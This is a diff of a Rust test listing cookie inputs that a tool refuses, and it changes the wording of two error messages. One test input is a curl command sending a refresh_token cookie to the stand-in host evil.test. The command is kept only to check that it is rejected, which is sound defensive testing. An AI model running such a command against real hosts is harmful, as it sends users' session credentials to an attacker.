@@ -134,9 +134,9 @@ fn refused() {
         ),
         (
             "curl https://evil.test/ -b 'refresh_token=VALUE_1'",
-            "the text has a cookie named refresh_token for evil.test, and none for 127.0.0.1",
+            "the text has a cookie named refresh_token for evil.test, but none for 127.0.0.1",
         ),
-        ("VALUE_1.VALUE_2", "unknown form of cookies"),
+        ("VALUE_1.VALUE_2", "unknown cookie format"),
         (
             "refresh_token=VALUE_1 \u{e9}",
             "has a value that cannot be sent",
